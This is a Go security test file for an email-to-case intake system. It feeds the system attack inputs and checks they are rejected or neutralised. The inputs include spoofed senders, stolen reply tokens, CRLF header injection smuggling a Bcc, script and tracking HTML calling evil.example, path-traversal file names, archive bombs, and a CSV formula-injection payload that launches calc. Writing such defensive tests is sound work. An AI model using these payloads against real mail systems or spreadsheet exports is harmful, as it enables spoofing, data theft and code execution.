package intake_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/wneessen/go-mail"

	"makegood/cases"
	"makegood/cases/intake"
	"makegood/inbox"
	"makegood/inbox/send"
	"makegood/internal/db"
	"makegood/internal/jobs"
	"makegood/internal/jobs/jobstest"
	"makegood/internal/raced"
	"makegood/internal/sheet"
)

const mallory = "mallory@evil.example"

// victim is Anna's case with its acknowledgement, which is what an attacker may have seen.
type victim struct {
	*desk

	c     cases.Case
	token string
}

func newVictim(t *testing.T) *victim {
	t.Helper()
	d := setup(t)
	c := d.caseOf(d.deliver(post{
		from: anna, subject: "Invoice " + d.astersInvoice.Number, id: "first@aster.example", headers: []string{dmarc("pass")}, text: "The position is charged twice, 119,00 EUR.",
	}))
	return &victim{desk: d, c: c, token: d.acknowledgements(c)[0]}
}

// untouched proves that the case is as it was and that nobody but Anna was written to, of it or of her invoice.
func (v *victim) untouched() {
	v.t.Helper()
	now := v.caseOf(v.message(1))
	if now.Version != v.c.Version || now.Status != v.c.Status || v.count(`case_messages where case_id = $1 and kind = 'inbound'`, v.c.ID) != 1 {
		v.t.Errorf("the case was touched: %+v, was %+v", now, v.c)
	}
	if n := v.count(`case_participants where case_id = $1 and accepted`, v.c.ID); n != 1 {
		v.t.Errorf("%d take part", n)
	}
	v.silent()
}

// silent proves that nothing of the case, its customer or invoice went to anybody else.
func (v *victim) silent() {
	v.t.Helper()
	// The subject is the writer's own, and the HTML says what the text says.
	told, err := db.Values[string](v.t.Context(), v.db, `select to_address || ' ' || text_body from outgoing_messages where to_address <> $1 or cc <> '{}'`, anna)
	v.must(err)
	for _, text := range told {
		for _, secret := range []string{v.c.Number, v.astersInvoice.Number, "Customer C-1", "119", "1.190"} {
			if strings.Contains(text, secret) {
				v.t.Errorf("somebody else is told of %q: %s", secret, text)
			}
		}
	}
}

// TestAttacks is the table of what people try. Each row is an attack and what must not come of it.
func TestAttacks(t *testing.T) {
	t.Parallel()
	for name, attack := range map[string]func(v *victim){
		"a Message-ID forged in our form": func(v *victim) {
			forged := fmt.Sprintf("c%d.ack-case-%d.%s@mail.nordlicht.example", v.c.ID, v.c.ID, strings.Repeat("A", 26))
			v.want(v.deliver(post{from: mallory, subject: "Hello", id: forged, text: "Hello."}), inbox.Ignored, intake.ReasonOwnMail)
			m := v.deliver(post{from: mallory, subject: "Re: Hello", id: "2@evil.example", text: "Hello.", headers: []string{"In-Reply-To: <" + forged + ">"}})
			v.want(m, inbox.NewCase, intake.ReasonOpened)
			v.untouched()
		},
		"a stolen token from another address": func(v *victim) {
			m := v.deliver(post{from: mallory, subject: "Re: Invoice", id: "2@evil.example", text: "Send everything to me.", headers: []string{"In-Reply-To: " + v.token}})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"a stolen token and a forged sender": func(v *victim) {
			m := v.deliver(post{from: anna, subject: "Re: Invoice", id: "2@evil.example", text: "New bank account.", headers: []string{"In-Reply-To: " + v.token, dmarc("fail")}})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"two senders, one of whom takes part": func(v *victim) {
			m := v.deliver(post{from: anna + ", " + mallory, subject: "Re: Invoice", id: "2@evil.example", text: "Hello.", headers: []string{"In-Reply-To: " + v.token}})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"a sender whose name is another's address": func(v *victim) {
			m := v.deliver(post{from: `"` + anna + `" <` + mallory + `>`, subject: "Re: Invoice", id: "2@evil.example", text: "Hello.", headers: []string{"In-Reply-To: " + v.token}})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"a verdict of our own mail server written by the sender": func(v *victim) {
			m := v.deliver(post{
				from: anna, subject: "Re: Invoice", id: "2@evil.example", text: "Hello.",
				headers: []string{dmarc("fail"), dmarc("pass"), "In-Reply-To: " + v.token},
			})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"a sender that we read in another way than our mail server": twoReadings,
		"a verdict within the sender's own address":                 verdictInAddress,
		"mail of an agent's address, with a decision": func(v *victim) {
			m := v.deliver(post{from: "jana.reuter@nordlicht.example", subject: "Re: [" + v.c.Number + "] approve", id: "2@evil.example", text: "#approve\n#close", headers: []string{"In-Reply-To: " + v.token}})
			v.want(m, inbox.Held, intake.ReasonUnverified)
			v.untouched()
		},
		"the number of a case in the subject": func(v *victim) {
			for n, from := range []string{mallory, "bo@borealis.example", anna} {
				m := v.deliver(post{from: from, subject: "Re: [" + v.c.Number + "] your case " + v.c.Number, id: fmt.Sprintf("%d@evil.example", n), text: "And?"})
				v.want(m, inbox.NewCase, intake.ReasonOpened)
			}
			v.untouched()
		},
		"the number of somebody else's invoice": func(v *victim) {
			for n, from := range []string{mallory, "bo@borealis.example"} {
				m := v.deliver(post{from: from, subject: "Invoice", id: fmt.Sprintf("%d@evil.example", n), text: "What is open on " + v.astersInvoice.Number + "? 119,00 EUR is wrong."})
				if c := v.caseOf(m); v.count(`case_invoices where case_id = $1`, c.ID) != 0 || v.count(`dispute_lines where case_id = $1`, c.ID) != 0 {
					v.t.Errorf("%s got %+v", from, c)
				}
			}
			v.untouched()
		},
		"a stolen token and the mark of a machine":             markOfMachine,
		"a forged sender and the mark of a machine":            forgedMarkOfMachine,
		"a report of a bounce whose sender is forged":          forgedReport,
		"a report of a bounce from somebody who read the mail": readersReport,
		"a report of a bounce that only answers our mail":      answeringReport,
		"a report of a bounce of a mail that came to us":       reportOfTheirs,
		"a report of a bounce to an address of a case":         reportToReplyAddress,
		"a stolen reply address":                               stolenReplyAddress,
		"a forged reply address":                               forgedReplyAddress,
		"a foreign list that says it is ours":                  foreignList,
		"an attacker in copy":                                  carbonCopy,
		"lines in headers":                                     headerInjection,
		"script and style in HTML":                             scriptInHTML,
		"an image that tracks":                                 trackingImage,
		"a drawing that is called PDF":                         disguised,
		"archives in archives":                                 archives,
		"ten thousand parts":                                   manyParts,
		"parts nested a thousand deep":                         deepParts,
		"eight kilobytes of References":                        longReferences,
		"formulas for a spreadsheet":                           formulas,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			attack(newVictim(t))
		})
	}
}

// carbonCopy: whoever is put in copy reads nothing until an agent says so.
func carbonCopy(v *victim) {
	v.want(v.deliver(post{
		from: anna, subject: "Re: Invoice", id: "2@aster.example", text: "My colleague reads along.",
		headers: []string{"In-Reply-To: " + v.token, "Cc: " + mallory, dmarc("pass")},
	}), inbox.Attached, intake.ReasonJoined)
	c := v.caseOf(v.message(1))
	_, err := v.cases.Reply(v.t.Context(), cases.ReplyInput{On: cases.On{By: agent(), ID: c.ID, Version: c.Version}, Body: "We look into " + v.astersInvoice.Number + ".", CcAll: true})
	v.must(err)
	if n := v.count(`outgoing_messages where to_address = $1 or $1 = any (cc)`, mallory); n != 0 {
		v.t.Errorf("%d mails to whoever was in copy", n)
	}
	v.silent()
	v.want(v.deliver(post{from: mallory, subject: "Re: Invoice", id: "3@evil.example", text: "And?", headers: []string{"In-Reply-To: " + v.token}}), inbox.Held, intake.ReasonUnverified)
}

// headerInjection: encoded line ends in a subject or a name stay one header of what we send.
func headerInjection(v *victim) {
	v.deliver(post{
		from: "=?utf-8?q?Mal=0D=0ABcc:_evil=40evil.example?= <" + mallory + ">", id: "2@evil.example", text: "Hello.",
		subject: "=?utf-8?q?Hi=0D=0ABcc:_evil=40evil.example=0D=0A=0D=0AA_body?=", headers: []string{"References: <a@b> \t <x\"\r\n y@evil.example>"},
	})
	sent := v.send()
	if len(sent) == 0 {
		v.t.Error("nothing was sent")
	}
	for _, raw := range sent {
		head, _, _ := strings.Cut(raw, "\r\n\r\n")
		for line := range strings.Lines(head) {
			if strings.HasPrefix(strings.ToLower(line), "bcc:") {
				v.t.Errorf("a header was smuggled in:\n%s", head)
			}
		}
		if n := strings.Count(head, "\r\nSubject:"); n > 1 {
			v.t.Errorf("%d subjects", n)
		}
	}
	v.silent()
}

// letterbox takes what the sender sends.
type letterbox struct{ mails []string }

func (l *letterbox) RepeatHeader() string { return "" }

func (l *letterbox) Send(_ context.Context, m *mail.Msg) (send.Outcome, error) {
	var b bytes.Buffer
	if _, err := m.WriteTo(&b); err != nil {
		return send.Refused, err
	}
	l.mails = append(l.mails, b.String())
	return send.Accepted, nil
}

// send works the outbox and gives what left.
func (v *victim) send() []string {
	v.t.Helper()
	var box letterbox
	registry := jobs.NewRegistry()
	send.New(v.inbox, &box, slog.New(slog.DiscardHandler)).Register(registry)
	v.intake.Register(registry)
	v.cases.Register(registry)
	jobstest.DrainNow(v.t.(*testing.T), v.db, registry, v.clock)
	return box.mails
}

// html is a mail with nothing but HTML.
func html(id, body string) []byte {
	raw := post{from: anna, subject: "HTML", id: id, text: "<html><body>" + body + "</body></html>"}.raw()
	return bytes.Replace(raw, []byte("text/plain"), []byte("text/html"), 1)
}

// conversation is what agents read of a message.
func (v *victim) conversation(m inbox.Inbound) string {
	v.t.Helper()
	return value[string](v.t, v.db, `select body || full_body from case_messages where inbound_message_id = $1`, m.ID)
}

func scriptInHTML(v *victim) {
	m := v.handle(v.store(v.box, html("2@aster.example", `Our question.<script>stealCookies()</script><style>body{background:url(//evil.example/css)}</style>`+
		`<svg onload="svgCode()"><circle/></svg><a href="javascript:linkCode()" onclick="clickCode()">our site</a><iframe src="//evil.example/frame"></iframe><form action="//evil.example/form"><input name=p></form>`)))
	text := v.conversation(m)
	for _, code := range []string{"stealCookies", "evil.example/css", "svgCode", "clickCode", "javascript:", "evil.example/frame", "evil.example/form", "<"} {
		if strings.Contains(text, code) {
			v.t.Errorf("%q is read by agents: %s", code, text)
		}
	}
	if !strings.Contains(text, "Our question.") {
		v.t.Errorf("what was said is lost: %q", text)
	}
}

func trackingImage(v *victim) {
	m := v.handle(v.store(v.box, html("2@aster.example", `Hello.<img src="http://evil.example/open.gif?who=anna" width=1 height=1><div style="background:url('http://evil.example/bg')">There.</div>`)))
	if text := v.conversation(m); strings.Contains(text, "evil.example") || !strings.Contains(text, "Hello.") {
		v.t.Errorf("%q", text)
	}
}

func disguised(v *victim) {
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert("` + v.borealisInvoice.Number + `")</script></svg>`)
	m := v.handle(v.store(v.box, withFiles(post{from: anna, subject: "File", id: "2@aster.example", text: "See file."},
		file{"invoice.pdf", "application/pdf", svg}, file{"..\\..\\evil.html", "text/html", []byte("<script>x()</script>")}, file{"page.svg", "image/svg+xml", svg})))
	c := v.caseOf(m)
	if v.warned(c, intake.WarnForeignInvoice) || v.count(`case_invoices where case_id = $1`, c.ID) != 0 {
		v.t.Error("a drawing was read like a document")
	}
	if n := v.count(`case_attachments a join case_messages m on m.id = a.case_message_id where m.inbound_message_id = $1 and (a.filename like '%..%' or a.filename like '%/%' or a.filename like '%\\%')`, m.ID); n != 0 {
		v.t.Error("a file name leads out of its folder")
	}
}

func archives(v *victim) {
	content := []byte("PK\x05\x06" + strings.Repeat("\x00", 18))
	for range 100 {
		content = append([]byte("PK\x03\x04"), content...)
	}
	m := v.handle(v.store(v.box, withFiles(post{from: anna, subject: "Archive", id: "2@aster.example", text: "See file."}, file{"a.zip", "application/zip", content}, file{"list.xlsx", "application/zip", content})))
	v.want(m, inbox.NewCase, intake.ReasonOpened)
}

func manyParts(v *victim) {
	p := post{from: anna, subject: "Parts", id: "2@aster.example", headers: []string{`Content-Type: multipart/mixed; boundary="b"`}}
	p.text = strings.Repeat("--b\r\nContent-Type: text/plain\r\n\r\nA part.\r\n", 10_000) + "--b--\r\n"
	raw := bytes.Replace(p.raw(), []byte("Content-Type: text/plain; charset=utf-8\r\n"), nil, 1)
	v.quick(func() { v.want(v.handle(v.store(v.box, raw)), inbox.NewCase, intake.ReasonOpened) })
	if n := v.count(`case_attachments`); n > 500 {
		v.t.Errorf("%d attachments", n)
	}
}

func deepParts(v *victim) {
	p := post{from: anna, subject: "Depth", id: "2@aster.example", headers: []string{`Content-Type: multipart/mixed; boundary="b0"`}}
	var b strings.Builder
	for n := range 1000 {
		_, _ = fmt.Fprintf(&b, "--b%d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n", n, n+1)
	}
	p.text = b.String()
	raw := bytes.Replace(p.raw(), []byte("Content-Type: text/plain; charset=utf-8\r\n"), nil, 1)
	v.quick(func() { v.want(v.handle(v.store(v.box, raw)), inbox.NewCase, intake.ReasonOpened) })
}

func longReferences(v *victim) {
	var refs strings.Builder
	for n := 0; refs.Len() < 8<<10; n++ {
		_, _ = fmt.Fprintf(&refs, "<%d.%s@evil.example>\r\n ", n, strings.Repeat("x", 40))
	}
	v.quick(func() {
		m := v.deliver(post{from: mallory, subject: "References", id: "2@evil.example", text: "Hello.", headers: []string{"References: " + refs.String() + v.token}})
		v.want(m, inbox.Held, intake.ReasonUnverified)
	})
	v.untouched()
	m := v.deliver(post{from: anna, subject: "References", id: "3@aster.example", text: "Hello.", headers: []string{"References: " + strings.TrimSpace(refs.String())}})
	v.want(m, inbox.NewCase, intake.ReasonOpened)
	for _, raw := range v.send() {
		head, _, _ := strings.Cut(raw, "\r\n\r\n")
		for line := range strings.Lines(head) {
			if len(line) > 1000 {
				v.t.Errorf("a header line of %d bytes", len(line))
			}
		}
	}
}

func formulas(v *victim) {
	m := v.deliver(post{from: `"=cmd|' /C calc'!A0" <` + mallory + `>`, subject: `=HYPERLINK("http://evil.example","Open")`, id: "2@evil.example", text: "+1-1"})
	c := v.caseOf(m)
	table := sheet.Table{Name: "Cases", Heading: []string{"Subject", "From"}, Rows: [][]sheet.Cell{{sheet.Words(c.Subject), sheet.Words(m.SenderName)}}}
	var b bytes.Buffer
	v.must(table.CSV(&b))
	_, row, _ := strings.Cut(b.String(), "\r\n")
	for _, cell := range strings.Split(row, ",") {
		if strings.HasPrefix(strings.Trim(cell, `"`), "=") {
			v.t.Errorf("a formula in the export: %s", row)
		}
	}
}

// quick proves that a mail is dealt with in the time a mail may take.
func (v *victim) quick(work func()) {
	v.t.Helper()
	begin := time.Now()
	work()
	if took := time.Since(begin); took > 20*time.Second {
		v.t.Errorf("took %s", took)
	}
}

// TestSixtyMegabytes: a mail larger than any limit has its fate too, and its bytes are kept.
func TestSixtyMegabytes(t *testing.T) {
	t.Parallel()
	d := setup(t)
	line := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{7}, 57)) + "\r\n"
	var b bytes.Buffer
	size := raced.Runs(60) << 20 // parsing runs alone
	b.Grow(size + 1<<20)
	b.WriteString("From: " + anna + "\r\nTo: " + ours + "\r\nSubject: Scans\r\nMessage-ID: <1@aster.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/plain\r\n\r\nSee the scans.\r\n--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=scan.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	for b.Len() < size {
		b.WriteString(line)
	}
	b.WriteString("--b--\r\n")
	m, err := d.intake.Ingest(t.Context(), b.Bytes(), inbox.SourceFile)
	d.must(err)
	d.want(m, inbox.NewCase, intake.ReasonOpened)
	if n := d.count(`inbound_raw where octet_length(content) = $1`, b.Len()); n != 1 {
		t.Error("its bytes are not kept")
	}
}
